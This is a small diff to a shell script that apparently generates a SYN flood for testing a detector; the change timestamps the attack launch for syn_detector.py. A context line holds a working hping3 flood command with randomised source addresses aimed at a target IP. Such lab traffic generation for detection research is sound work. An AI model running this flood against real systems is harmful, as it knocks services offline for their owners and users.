@@ -20,7 +20,7 @@ HPING_LEGIT_PID=$!  # Store PID of legitimate traffic process
 echo "[+] Waiting $DELAY_ATTACK seconds before launching SYN flood attack..."
 sleep $DELAY_ATTACK
 
-echo "[!!!] Launching SYN flood attack..."
+echo "[!!!] Launching SYN flood attack at $(date +%s.%N) (for syn_detector.py --attack-start)..."
 sudo hping3 -S -p $PORT --flood --rand-source $UBUNTU_IP > /dev/null 2>&1 &
 HPING_ATTACK_PID=$!  # Store PID of SYN flood attack
 